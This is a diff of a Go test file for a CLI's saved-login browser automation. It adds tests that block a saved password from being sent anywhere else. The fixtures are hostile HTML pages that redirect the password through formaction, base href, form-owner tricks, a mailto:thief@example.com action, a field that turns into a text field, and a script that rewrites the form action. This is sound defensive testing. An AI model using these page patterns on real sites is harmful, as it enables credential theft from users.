@@ -5,6 +5,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -57,11 +58,15 @@ func TestAuthLogin(t *testing.T) {
 		{name: "in a frame", path: "/frame", log: []string{"password", "home"}, steps: []string{"username", "password"}},
 		{name: "with traps", path: "/trap", log: []string{"password", "home"}, steps: []string{"username", "password"}},
 		{name: "without a new page", path: "/spa", log: []string{"password"}, steps: []string{"username", "password"}},
-		{name: "by selectors", path: "/spa", more: []string{"--username-selector", "#u", "--password-selector", "#p", "--submit-selector", "#b"},
-			log: []string{"password"}, steps: []string{"username", "password"}},
+		{
+			name: "by selectors", path: "/spa", more: []string{"--username-selector", "#u", "--password-selector", "#p", "--submit-selector", "#b"},
+			log: []string{"password"}, steps: []string{"username", "password"},
+		},
 		{name: "a code", path: "/code", more: []string{"--totp", loginSecret}, log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"}},
-		{name: "a digit a field", path: "/digits", more: []string{"--totp", "otpauth://totp/x?secret=" + loginSecret},
-			log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"}},
+		{
+			name: "a digit a field", path: "/digits", more: []string{"--totp", "otpauth://totp/x?secret=" + loginSecret},
+			log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"},
+		},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -164,14 +169,98 @@ func TestAuthLoginOrigin(t *testing.T) {
 
 	const field = `{"kind":"css","css":"input[type=password]"`
 	for path, selector := range map[string]string{"/": field + "}", "/frames": field + `,"framePath":["iframe"]}`} {
-		r = c.try("auth", "login", "app", "--url", leads.URL+path, "--timeout", "8000")
+		c.doWith(loginPassword, "auth", "save", "app", "--url", leads.URL+path, "--username", loginUser, "--password-stdin")
+		r = c.try("auth", "login", "app", "--timeout", "8000")
 		require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%s: %v", path, r.Err)
 		require.Contains(t, r.Err.Error(), other.URL)
 		require.Equal(t, "", c.do("get", "value", selector).Result.Text)
 	}
 	require.Empty(t, other.noted())
-	c.do("auth", "login", "app", "--url", leads.URL+"/", "--allow-origin", other.URL)
+
+	kept := loginTo(t, s, "/plain", "--allow-origin", other.URL, "--allow-origin", leads.URL)
+	kept.do("auth", "login", "app", "--url", leads.URL+"/")
 	require.Equal(t, []string{"password", "home"}, other.noted())
+	r = kept.try("auth", "login", "app", "--url", leads.URL+"/", "--allow-origin", leads.URL) // a call can only narrow
+	require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v", r.Err)
+	require.Equal(t, []string{"password", "home"}, other.noted())
+}
+
+// What a call says widens nothing of what a login was bound to when it was saved: neither the page, nor where its form sends, nor what kind of
+// field takes the password.
+func TestAuthLoginBinding(t *testing.T) {
+	t.Parallel()
+	other := startLoginSite(t)
+	var mu sync.Mutex
+	var sent []string
+	take := func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		sent = append(sent, r.FormValue("pass")+r.FormValue("note"))
+		show(w, `<title>Welcome</title><a href=/out>Sign out</a>`)
+	}
+	thief := httptest.NewServer(http.HandlerFunc(take))
+	t.Cleanup(thief.Close)
+	const fields = `<input name=email type=email><input name=pass type=password>`
+	pages := map[string]string{
+		"/action":     `<form method=post action="` + thief.URL + `/">` + fields + `<button>Sign in</button></form>`,
+		"/formaction": `<form method=post action=/check>` + fields + `<button formaction="` + thief.URL + `/">Sign in</button></form>`,
+		"/enter":      `<form method=post action=/check>` + fields + `<input type=submit style="display:none" formaction="` + thief.URL + `/"></form>`,
+		"/base":       `<base href="` + thief.URL + `/"><form method=post action=in>` + fields + `<button>Sign in</button></form>`,
+		"/owner":      `<form id=f method=post action="` + thief.URL + `/"></form><form action=/check><input name=email form=f><input name=pass type=password form=f><button form=f>Sign in</button></form>`,
+		"/clobbered":  `<form method=post action="` + thief.URL + `/"><input type=hidden name=action value=/check>` + fields + `<button>Sign in</button></form>`,
+		"/mail":       `<form method=post action="mailto:thief@example.com">` + fields + `<button>Sign in</button></form>`,
+		"/text":       `<form method=post action=/check><input name=email type=email><input name=pass type=password><input name=note id=note><button>Sign in</button></form>`,
+		"/turns":      `<form method=post action=/check><input name=email type=email><input name=pass type=password onfocus="this.type='text'"><button>Sign in</button></form>`,
+		"/later": `<form method=post action=/check><input name=email type=email><input name=pass type=password><button>Sign in</button></form>
+			<script>document.querySelector('[name=pass]').addEventListener('input', () => { document.forms[0].action = '` + thief.URL + `/' })</script>`,
+	}
+	bound := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if html, ok := pages[r.URL.Path]; ok {
+			show(w, "<title>Sign in</title>"+html)
+			return
+		}
+		take(w, r)
+	}))
+	t.Cleanup(bound.Close)
+	tests := []struct {
+		name, path string
+		more       []string
+		field      string // what must be empty afterwards
+		code       fault.Code
+	}{
+		{name: "another address", path: "/text", more: []string{"--url", other.URL + "/plain"}},
+		{name: "another origin allowed by the call", path: "/text", more: []string{"--url", other.URL + "/plain", "--allow-origin", other.URL}},
+		{name: "a field that shows what it holds", path: "/text", more: []string{"--password-selector", "#note"}, field: "#note"},
+		{name: "a form that posts elsewhere", path: "/action", field: "[name=pass]"},
+		{name: "a button that posts elsewhere", path: "/formaction", field: "[name=pass]"},
+		{name: "Enter that posts elsewhere", path: "/enter", field: "[name=pass]"},
+		{name: "a base elsewhere", path: "/base", field: "[name=pass]"},
+		{name: "fields of another form", path: "/owner", field: "[name=pass]"},
+		{name: "a field in the action's name", path: "/clobbered", field: "[name=pass]"},
+		{name: "mail", path: "/mail", field: "[name=pass]"},
+		{name: "a button that the call names", path: "/formaction", more: []string{"--submit-selector", "button"}, field: "[name=pass]"},
+		{name: "a password field that turns into another", path: "/turns", field: "[name=pass]"},
+		{name: "an action that changes once the password is there", path: "/later"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+			c := newClient(t)
+			c.env["SKUA_KEYRING"] = "off"
+			c.doWith(loginPassword+"\n", "auth", "save", "app", "--url", bound.URL+test.path, "--username", loginUser, "--password-stdin")
+			r := c.try(append([]string{"auth", "login", "app", "--timeout", "8000"}, test.more...)...)
+			require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v %s", r.Err, everything(r))
+			require.NotContains(t, everything(r), "Logged in")
+			quietOf(t, r)
+			if test.field != "" {
+				require.Empty(t, c.page("document.querySelector('"+test.field+"').value"))
+			}
+			require.Empty(t, other.noted())
+			mu.Lock()
+			defer mu.Unlock()
+			require.Empty(t, sent)
+		})
+	}
 }
 
 func TestAuthVault(t *testing.T) {
@@ -184,7 +273,8 @@ func TestAuthVault(t *testing.T) {
 	quietOf(t, r)
 	require.Equal(t, "Auth profiles:\n  a u https://example.com/login", c.do("auth", "list").Result.Text)
 	for _, args := range [][]string{
-		{"auth", "save", "a", "--url", "example.com", "--username", "u"}, {"auth", "save", "bad name", "--url", "example.com", "--username", "u", "--password", loginPassword},
+		{"auth", "save", "a", "--url", "example.com", "--username", "u"},
+		{"auth", "save", "bad name", "--url", "example.com", "--username", "u", "--password", loginPassword},
 		{"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--password", "hunter2"},
 		{"auth", "save", "a", "--url", "ftp://x", "--username", "u", "--password", loginPassword},
 		{"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--totp", "hunter2!"},
